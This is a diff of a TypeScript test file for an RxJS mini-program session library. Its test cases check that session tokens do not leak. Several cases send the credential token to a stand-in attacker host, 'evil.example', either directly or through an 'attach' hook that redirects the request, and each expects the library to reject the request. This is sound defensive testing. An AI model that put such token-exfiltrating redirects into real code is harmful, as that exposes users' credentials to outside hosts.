@@ -1,15 +1,14 @@
 import { concat, defer, throwError } from 'rxjs';
-import { requestWithLogin, retryOnExpired, sessionRequest, withLogin } from 'rx-weapp-session';
-import type { Session } from 'rx-weapp-session';
+import { retryOnExpired, sessionRequest, withLogin } from 'rx-weapp-session';
 import { promised } from 'rx-weapp-session/marbles';
 import type { Scenario } from 'rx-weapp-session/marbles';
+import { request, send } from './support/guarded';
 import { blab, blabbing, failing, SECRET, tellsNoSecret, token } from './support/secrets';
 import type { Leak } from './support/secrets';
 
 const refused = { x: { ...blab, statusCode: 401 } };
 const force = ({ session }: Scenario) => session.login({ mode: 'force' });
-const orders = (session: Session) => sessionRequest(session, { url: '/orders' });
-const guarded = ({ session }: Scenario) => orders(session).pipe(withLogin(session), retryOnExpired(session));
+const guarded = ({ session }: Scenario) => send(session).pipe(withLogin(session), retryOnExpired(session));
 
 /** Of somebody whose credential R was stored. */
 const LEAKS: readonly Leak[] = [
@@ -33,13 +32,13 @@ const LEAKS: readonly Leak[] = [
   {
     title: 'a request that fails',
     script: ({ resources }) => resources('20ms f', failing(blab)),
-    run: ({ session }) => requestWithLogin(session, { url: `/orders?token=${token}` }),
+    run: ({ session }) => request(session, `/orders?token=${token}`),
     end: '20ms #',
     code: 'request-failed',
   },
   {
     title: 'a url of an untrusted origin',
-    run: ({ session }) => requestWithLogin(session, { url: `https://evil.example/?token=${token}` }),
+    run: ({ session }) => request(session, `https://evil.example/?token=${token}`),
     end: '#',
     code: 'config-invalid',
   },
@@ -57,14 +56,14 @@ const LEAKS: readonly Leak[] = [
         throw new Error(it.token);
       },
     },
-    run: ({ session }) => orders(session),
+    run: ({ session }) => send(session),
     end: '#',
     code: 'config-invalid',
   },
   {
     title: 'attach that moves the request',
     config: { attach: (options, it) => ({ ...options, url: `https://evil.example/?token=${it.token}` }) },
-    run: ({ session }) => orders(session),
+    run: ({ session }) => send(session),
     end: '#',
     code: 'config-invalid',
   },
@@ -75,7 +74,7 @@ const LEAKS: readonly Leak[] = [
         throw blabbing;
       },
     },
-    run: ({ session }) => requestWithLogin(session, { url: '/orders' }),
+    run: ({ session }) => request(session),
     end: '20ms (R|)',
   },
   {
